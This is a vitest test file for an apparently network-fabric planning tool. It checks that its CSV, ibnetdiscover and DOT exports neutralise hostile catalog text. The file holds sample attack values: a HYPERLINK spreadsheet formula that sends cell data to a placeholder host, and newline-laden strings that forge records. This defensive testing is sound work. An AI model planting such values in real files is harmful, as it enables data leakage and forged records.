import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { dot } from '../../src/export/dot';
import type { ExportSubject } from '../../src/export/fabric';
import { exportFormat } from '../../src/export/formats';
import { defaultCatalog } from '../../src/catalog/default';
import { graphvizRead, parseIbnetdiscover } from './grammars';
import { CLASSIC_TEXTS, hostileSubject, smallFixtures, type Fixture, type HostileTexts } from './hostile';

/** The export cases of issue 9, each reproduced as it was reported: written from the app's writers and by `railyard export`. */

const FORMULA_START = /^[=+\-@\t\r]/;
const write = (id: string, s: ExportSubject) => [...exportFormat(id)!.write(s)].join('');
const bin = join(__dirname, '..', '..', 'bin', 'railyard.mjs');

let ib: Fixture;
let ib3: Fixture;
beforeAll(() => {
  [ib, , ib3] = smallFixtures();
});

/** `railyard export` of the subject's result with its catalog, as a user would run it. */
function cliExport(s: ExportSubject, format: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'railyard-injection-'));
  writeFileSync(join(dir, 'result.json'), JSON.stringify(s.result));
  writeFileSync(join(dir, 'catalog.json'), JSON.stringify(s.catalog));
  const out = join(dir, `out.${format}`);
  execFileSync(process.execPath, [bin, 'export', join(dir, 'result.json'), '--catalog', join(dir, 'catalog.json'), '--format', format, '--out', out, `--candidate=${s.candidate.id}`]);
  return readFileSync(out, 'utf8');
}

/** Cells of a parsed CSV that a spreadsheet would evaluate as a formula. */
const formulaCells = (csv: string) => (parseCsv(csv) as string[][]).flat().filter((cell) => FORMULA_START.test(cell));

describe('CSV formula injection', () => {
  it('writes a catalog model, name or vendor that starts with = + - @ tab or CR into the BOM CSV as text, in the app and the CLI', () => {
    const s = hostileSubject(ib, defaultCatalog, CLASSIC_TEXTS);
    for (const csv of [write('bom-csv', s), cliExport(s, 'bom-csv')]) {
      expect(formulaCells(csv)).toEqual([]);
      const rows: Record<string, string>[] = parseCsv(csv, { columns: true });
      const sw = rows.find((r) => r.category === 'switch')!;
      expect([sw.model, sw.name, sw.vendor, sw.currency]).toEqual([`'${CLASSIC_TEXTS.switchModel}`, `'${CLASSIC_TEXTS.switchName}`, `'${CLASSIC_TEXTS.offerVendor}`, `'${CLASSIC_TEXTS.currency}`]);
      expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A2,""Click"")"`);
      expect(rows.filter((r) => r.row === 'item').every((r) => Number(r.extendedPrice) > 0 && !r.extendedPrice.startsWith("'"))).toBe(true);
    }
  });

  it('writes part models that start with = + - @ tab or CR into the cable schedule CSV as text, in the app and the CLI', () => {
    const s = hostileSubject(ib, defaultCatalog, CLASSIC_TEXTS);
    for (const csv of [write('cables-csv', s), cliExport(s, 'cables-csv')]) {
      expect(formulaCells(csv)).toEqual([]);
      const rows: Record<string, string>[] = parseCsv(csv, { columns: true });
      expect(rows).toHaveLength([...s.listing.cables()].length);
      const optics = new Set(rows.flatMap((r) => Object.keys(r).filter((k) => k.endsWith('_transceiver')).map((k) => r[k])).filter(Boolean));
      expect([...optics]).toEqual([`'${CLASSIC_TEXTS.opticModel}`]);
      // A cable is ordered by its catalog length-coded number, else by its (hostile) family model.
      const coded = new Set(s.catalog.cables.flatMap((c) => Object.values(c.partNumbers ?? {})));
      const cables = new Set(rows.map((r) => r.cable_part_number));
      expect([...cables].every((p) => p === `'${CLASSIC_TEXTS.cableModel}` || coded.has(p))).toBe(true);
    }
  });
});

describe('record forging in the line formats', () => {
  const forged = (switchModel: string): HostileTexts => ({ ...CLASSIC_TEXTS, switchModel });

  it('keeps a newline in a switch model from forging a record in the ibnetdiscover file', () => {
    const model = 'QM9700\nSwitch\t36 "S-00000000000000ff"\t\t# "forged-switch" enhanced port 0 lid 0 lmc 0\n[1]\t"S-00000000000000ff"[1]\t\t# "forged-switch" lid 0 4xNDR';
    for (const f of [ib, ib3]) {
      const s = hostileSubject(f, defaultCatalog, forged(model));
      const text = write('ibnetdiscover', s);
      const listing = parseIbnetdiscover(text); // throws on a line that is not a record of the grammar
      expect(listing.switches.has('forged-switch')).toBe(false);
      expect(listing.switches.size).toBe(s.candidate.metrics.switchCount);
      expect(text.split('\n').filter((l) => l.startsWith('Switch\t'))).toHaveLength(s.candidate.metrics.switchCount);
      expect(listing.switches.get([...listing.switches.keys()][0])!.model).toBe('QM9700 Switch 36 \'S-00000000000000ff\'  # \'forged-switch\' enhanced port 0 lid 0 lmc 0 [1] \'S-00000000000000ff\'[1]  # \'forged-switch\' lid 0 4xNDR');
    }
  });

  it('keeps a trailing backslash (or a quote) in a switch model from breaking the DOT file', () => {
    for (const model of ['QM9700\\', 'QM9700 "64-port\\"', '\\']) {
      const s = hostileSubject(ib3, defaultCatalog, forged(model));
      for (const file of [write('dot-full', s), [...dot(s, 'aggregated')].join('')]) {
        const g = graphvizRead(file); // throws when Graphviz cannot read the file
        const switches = [...g.nodes.values()].filter((n) => n.name.startsWith('p1_') || n.name.startsWith('p1-'));
        expect(switches.length).toBeGreaterThan(0);
        for (const n of switches) expect(n.label.join('\n')).toContain(model);
      }
      expect(graphvizRead(write('dot-full', s)).edges).toHaveLength(s.candidate.metrics.linkCount);
    }
  });
});
